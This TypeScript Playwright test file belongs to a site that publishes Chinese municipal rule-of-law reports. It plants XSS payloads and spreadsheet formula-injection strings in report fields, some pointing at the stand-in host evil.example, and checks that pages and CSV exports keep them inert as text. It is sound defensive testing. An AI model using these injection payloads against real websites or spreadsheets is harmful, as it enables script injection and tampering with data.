/** A report whose every part holds what a browser would run: on every page it stays text. */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import type { ReportDataset } from '../../src/schemas/dataset.ts';
import { answerFrom, BASE, fileIn, ORIGIN, validate } from './years-project.ts';

const STEM = 'xushi-2023';
const REPORT = 'regions/xushi/2023/';
const read = (path: string): string => readFileSync(fileIn(BASE + path), 'utf8');

/** Names of the region and of its issuer, as content/ has them. */
const NAME = '墟市<b onclick=window.ran=18>';
const FULL_NAME = '例示省墟市</title><script>window.ran=19</script>';
const TITLE =
  '<script>window.ran=1</script>墟市人民政府关于2023年度法治政府建设情况的报告"><svg onload=window.ran=2>';
const ISSUER = '墟市人民政府<img src=x onerror=window.ran=17>';

/** Strings of the text, as the normaliser leaves them: marks between Chinese characters are Chinese. */
const IN_TEXT = [
  '<b onclick=window.ran=3>',
  '{{constructor.constructor（“window.ran=4”）（）}}${window.ran=5}',
  '一、<img src=x onerror=window.ran=6>主要举措和成效',
  '领导</script><script>window.ran=7</script>。',
  '《〈img src=x onerror=window.ran=8〉墟市2023年',
  '[点击查看]（javascript:window.ran=10）',
  '<iframe src=“javascript:window.ran=11”></iframe>',
  '<!-- 注释里的行政执法 -->',
  '&lt;script&gt;window.ran=12&lt;/script&gt；',
  '<img/src=x/onerror=window.ran=13>36件',
  '<details open ontoggle=window.ran=14>',
  '=HYPERLINK（“javascript:window.ran=15”',
  '\u202e行政规范性文件\u202c',
  'W'.repeat(800),
  '<style>*{display:none}</style><base href=//evil.example/><meta http-equiv=refresh',
  '<a href=javascript:window.ran=16>',
  '</td></tr></table><script src=//evil.example/x.js></script>',
  '<form action=//evil.example><button>',
];

/** Every type of page on which the report stands, with what must be read there as text. */
const PAGES: Readonly<Record<string, readonly [path: string, ...shown: string[]]>> = {
  home: ['', FULL_NAME],
  region: ['regions/xushi/', FULL_NAME, "'-window.ran=21-'"],
  report: [REPORT, TITLE, ISSUER, ...IN_TEXT],
  source: [`${REPORT}source/`, '"javascript:window.ran=15"', '(javascript:window.ran=10)'],
  'compare index': [`compare/?reports=${STEM},jichuan-2023`, NAME],
  'compare reports': ['compare/reports/', NAME],
  'compare topic': [`compare/law-enforcement/?reports=${STEM},jichuan-2023`, IN_TEXT[6] ?? ''],
  'compare plans': [`compare/reconsideration-litigation/?reports=jichuan-2023,${STEM}`, IN_TEXT[9] ?? ''],
  'compare column': [`compare/report/${STEM}/`, NAME, '<a href=javascript:window.ran=16>'],
  'compare pair': [`compare/pair/?a=${STEM}:s1-2&b=${STEM}:s1-3-p1`, IN_TEXT[6] ?? '', IN_TEXT[9] ?? ''],
  indicators: ['indicators/2/', NAME],
  indicator: ['indicators/official-appearance-rate/', '=HYPERLINK("//evil.example","全市")', '@SUM(1+1)*cmd'],
  'indicator by residents': [
    'indicators/reconsideration-cases/',
    '<img src=x onerror=window.ran=22>',
    '</script><script>window.ran=23</script>',
  ],
  figures: ['figures/'],
  'figures asked': [`figures/?text=${encodeURIComponent('window.ran')}`],
  'figures of the report': [`figures/report/${STEM}/`, IN_TEXT[9] ?? ''],
  'figures of a topic': ['figures/topic/law-enforcement/2/', IN_TEXT[6] ?? ''],
  checks: ['checks/'],
  words: ['words/'],
  'words looked up': [
    `words/lookup/?q=${encodeURIComponent('行政执法案卷')}`,
    '（javascript:window.ran=10）',
  ],
  'words term': ['words/fengqiaojingyan/2/', '<svg onload=window.ran=9>'],
  instruments: ['instruments/2/', '〈img src=x onerror=window.ran=8〉墟市2023年'],
  search: [`search/?q=${encodeURIComponent('行政执法案卷')}`, '（javascript:window.ran=10）', NAME],
  'search for the code': [`search/?q=${encodeURIComponent('<iframe src=')}`, IN_TEXT[6] ?? ''],
  'search landing': [`${REPORT}?q=${encodeURIComponent('行政执法案卷')}#s1-2`, IN_TEXT[6] ?? ''],
  'all texts': ['search/all/2/', TITLE],
  data: ['data/'],
  changes: ['changes/'],
};

test.describe.configure({ mode: 'parallel' });
let complaints: string[] = [];
test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      console.error(`policy: ${violatedDirective} ${blockedURI}`),
    );
  });
  complaints = await answerFrom(page);
  page.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
});

/** What of the planted code became part of the page: elements, handlers, addresses, or a run of it. */
const planted = (page: Page) =>
  page.evaluate(() => {
    const found = [...document.querySelectorAll('*')].filter(
      (element) =>
        element.matches('img:not([alt]), iframe, object, embed, base, style, meta[http-equiv="refresh"]') ||
        element.getAttributeNames().some((name) => name.startsWith('on')) ||
        ['href', 'src', 'action'].some((name) =>
          /^\s*(?:javascript|data):|evil\.example/i.test(element.getAttribute(name) ?? ''),
        ) ||
        (element.localName === 'script' && /^\s*window\.ran/.test(element.textContent)),
    );
    return [...found.map(({ outerHTML }) => outerHTML.slice(0, 80)), ...('ran' in window ? ['it ran'] : [])];
  });

/** All text of a page, hidden parts too, without the data in it. */
const textOf = (page: Page) =>
  page.evaluate(() => {
    const body = document.body.cloneNode(true) as HTMLElement;
    for (const data of body.querySelectorAll('script, template')) data.remove();
    return body.textContent;
  });

for (const [name, [path, ...shown]] of Object.entries(PAGES)) {
  test(`${name}: hostile text stays text`, async ({ page }) => {
    // English differs from Simplified in its strings, which only scripts put together with texts.
    for (const version of path.includes('?') ? ['', 'zh-hant/', 'en/'] : ['', 'zh-hant/']) {
      await page.goto(`${ORIGIN}${BASE}${version}${path}`);
      await expect(page.locator('h1').first()).toBeVisible();
      // Other versions write names and words otherwise; where scripts draw the page, they must be done.
      if (version === '')
        for (const text of shown)
          await expect.poll(async () => (await textOf(page)).includes(text), text).toBe(true);
      else if (path.includes('?')) await page.waitForLoadState('networkidle');
      expect([version, await planted(page)]).toEqual([version, []]);
      expect(complaints).toEqual([]);
    }
  });
}

test('a passage set aside is shown as text and taken along as it stands', async ({ page }) => {
  await page.goto(`${ORIGIN}${BASE}${REPORT}`);
  for (const unit of ['s1-3-p1', 's1-3-p2']) await page.locator(`#${unit} .pin`).click();
  await page.getByRole('button', { name: '摘录篮（2）' }).click();
  const items = page.getByRole('dialog').getByRole('listitem');
  await expect(items.nth(0)).toContainText('<img/src=x/onerror=window.ran=13>36件');
  expect(await planted(page)).toEqual([]);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'CSV', exact: true }).click(),
  ]);
  const csv = readFileSync(await download.path(), 'utf8');
  expect(csv).toContain('<img/src=x/onerror=window.ran=13>36件');
  // A spreadsheet would run a cell that begins so.
  expect(csv).toMatch(/,"?'=HYPERLINK（/);
  expect(csv).not.toMatch(/(?:^|,)"?[=+@-]/m);
  expect(complaints).toEqual([]);
});

test('no cell of a table begins as a formula does; the records hold the text itself', () => {
  const tables = ['observations', 'quantities', 'instruments', 'terms', 'codebook'].map(
    (name) => `data/${name}.csv`,
  );
  for (const path of [...tables, 'indicators/official-appearance-rate.csv'])
    expect([path, /(?:^|,)"?[=+@-](?![\d.]+(?:[,"\n]|$)).*/m.exec(read(path))?.[0]]).toEqual([
      path,
      undefined,
    ]);
  expect(read('data/observations.csv')).toContain(
    `'@SUM(1+1)*cmd,"'=HYPERLINK(""//evil.example"",""全市"")"`,
  );
  const observations = JSON.parse(read('data/observations.json')) as {
    report: string;
    scope: string | null;
  }[];
  expect(observations.filter(({ report }) => report === STEM).map(({ scope }) => scope)).toContain(
    '=HYPERLINK("//evil.example","全市")',
  );
  const { title, issuer, name, text } = JSON.parse(read(`data/reports/${STEM}.json`)) as ReportDataset;
  expect([title, issuer, name]).toEqual([TITLE, ISSUER, NAME]);
  for (const string of IN_TEXT) expect(text).toContain(string);
});

test('pages, statements for engines, sitemap and feed are well formed', async ({ page }) => {
  const pages = [
    ...['', REPORT, `${REPORT}source/`, 'regions/xushi/'],
    ...[`compare/report/${STEM}/`, `figures/report/${STEM}/`],
  ];
  expect(validate(...pages.map((path) => `dist/${path}index.html`)).trim()).toBe('');
  const names = [...read(REPORT).matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)].map(
    ([, json = '']) => (JSON.parse(json) as { name?: string }).name,
  );
  expect(names).toContain(TITLE);
  for (const path of [
    'feed.xml',
    'sitemap-0.xml',
    'sitemap-index.xml',
    'indicators/official-appearance-rate.svg',
  ]) {
    // In an empty page: no policy of ours stands there.
    const found = await page.evaluate((xml) => {
      const parsed = new DOMParser().parseFromString(xml, 'text/xml');
      return parsed.querySelectorAll('parsererror, script, [onload], [onerror]').length;
    }, read(path));
    expect([path, found]).toEqual([path, 0]);
  }
});
